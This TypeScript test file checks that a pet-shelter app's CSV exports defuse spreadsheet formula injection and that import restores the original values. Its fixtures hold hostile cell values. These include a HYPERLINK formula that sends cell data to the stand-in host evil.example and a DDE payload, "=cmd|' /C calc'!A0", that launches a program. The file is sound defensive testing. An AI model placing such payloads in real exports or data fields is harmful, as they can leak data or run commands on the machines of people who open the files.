/**
 * A cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) starts with
 * `'` in every CSV we write (the staff export and the RescueGroups file), and `pets import` of our
 * own backup restores every value exactly, including values that begin with quotes already.
 */
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { writePetExport } from '../../src/main/pets/staff-export';
import { readPetImport } from '../../src/main/pets/staff-import';
import { Engine } from '../../src/main/engine/engine';
import { cellFromCsv, csvText, spreadsheetSafe } from '../../src/main/files/csv';
import type { PetProfileChange } from '../../src/shared/pet-profile';
import { makeTempDir, removeTempDir } from '../helpers/temp-dir';

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1 cat',
  '-Minus',
  '@SUM(A1:A9)',
  "'=already quoted",
  "''+two quotes",
  "'Tis",
  'Plain Biscuit',
];
const HOSTILE_PROFILE: PetProfileChange = {
  breedPrimary: '@Beagle',
  color: '=1+1',
  description: '- likes walks\n\n- hates baths',
  kennelLocation: '-3 (basement)',
  internalNotes: "=cmd|' /C calc'!A0",
  adoptionFee: 85.5,
};
const FORMULA_START = /^[=+\-@\t\r]/;
const FULL_WIDTH_STARTS = ['＝HYPERLINK("http://evil.example/","Click")', '＋1', '－5', '＠SUM(A1:A9)'];
const FULL_WIDTH_FORMULA_START = /^[＝＋－＠]/;

let dataDir: string;
let engine: Engine;
beforeEach(() => {
  dataDir = makeTempDir('csv-formulas');
  engine = new Engine({ dataDir, environment: 'production' });
});
afterEach(() => {
  engine.close();
  removeTempDir(dataDir);
});

const cells = (file: string) => (parse(fs.readFileSync(file)) as string[][]).slice(1).flat();

describe('the CSV writer', () => {
  it('quotes formula starts, and cellFromCsv gives back exactly what it was given', () => {
    for (const text of ['=1', '+1', '-1', '@a', '\tx', '\rx', "'=1", "''-1", "'x", "'", '', 'a=b', 'x']) {
      const written = spreadsheetSafe(text);
      expect(FORMULA_START.test(written), JSON.stringify(written)).toBe(false);
      expect(cellFromCsv(written)).toBe(text);
    }
    expect(spreadsheetSafe('=1')).toBe("'=1");
    expect(spreadsheetSafe("'x")).toBe("'x");
    // Numbers are written as numbers (no column we write holds a negative one).
    expect(csvText(['a', 'b'], [[-5, ' padded ']])).toBe('a,b\r\n-5," padded "\r\n');
  });

  it('quotes the full-width formula starts (＝ ＋ － ＠) as the ASCII ones, and gives them back exactly', () => {
    for (const text of FULL_WIDTH_STARTS) {
      const written = spreadsheetSafe(text);
      expect(written, JSON.stringify(text)).toBe(`'${text}`);
      expect(cellFromCsv(written)).toBe(text);
    }
    expect(spreadsheetSafe("'＝1")).toBe("''＝1");
    expect(cellFromCsv("''＝1")).toBe("'＝1");
    expect(spreadsheetSafe('Rex ＝ good dog')).toBe('Rex ＝ good dog');
    const file = csvText(
      ['name'],
      FULL_WIDTH_STARTS.map((text) => [text]),
    );
    expect(
      (parse(file) as string[][])
        .slice(1)
        .flat()
        .filter((cell) => FULL_WIDTH_FORMULA_START.test(cell)),
    ).toEqual([]);
  });
});

describe('every CSV we write keeps formulas text', () => {
  it('pets export: no cell starts a formula, and pets import of the backup restores every name and profile exactly', () => {
    for (const name of HOSTILE_NAMES) {
      const pet = engine.services.pets.create({ name, categoryId: 1, status: 'available' });
      engine.services.petProfiles.set(pet.id, HOSTILE_PROFILE);
    }
    const backup = path.join(dataDir, 'backup.csv');
    writePetExport(backup, engine.services.petProfiles.exportRows());
    const written = cells(backup);
    expect(written.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(written).toContain(`'${HOSTILE_NAMES[0]}`);
    return readPetImport(backup).then((rows) => {
      expect(rows.map((row) => row.pet.name)).toEqual(HOSTILE_NAMES);
      for (const row of rows) expect(row.profile).toEqual(HOSTILE_PROFILE);
      const created = engine.services.pets.importMany(
        rows.map((row) => row.pet),
        undefined,
        (pet, index) => engine.services.petProfiles.writeImported(pet.id, rows[index]!.profile),
      );
      expect(created.map((pet) => pet.name)).toEqual(HOSTILE_NAMES);
      for (const pet of created) expect(engine.services.petProfiles.get(pet.id)).toEqual(HOSTILE_PROFILE);
    });
  });

  it('the RescueGroups file: the name and description start with a quote, not a formula', async () => {
    const pet = engine.services.pets.create({ name: HOSTILE_NAMES[0]!, categoryId: 1, status: 'available' });
    engine.services.petProfiles.set(pet.id, {
      ...HOSTILE_PROFILE,
      breedPrimary: 'Beagle',
      sex: 'male',
      birthDate: '2020',
    });
    await engine.services.photos.add(pet.id, [
      {
        name: 'a.jpg',
        bytes: await sharp({ create: { width: 320, height: 240, channels: 3, background: '#888' } })
          .jpeg()
          .toBuffer(),
      },
    ]);
    const out = path.join(dataDir, 'rg');
    engine.publishing.portals.exportRescueGroups(out, { allowDrops: false });
    const written = cells(path.join(out, 'rescuegroups.csv'));
    expect(written.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(written).toContain(`'${HOSTILE_NAMES[0]}`);
    expect(written).toContain("'- likes walks - hates baths");
  });
});
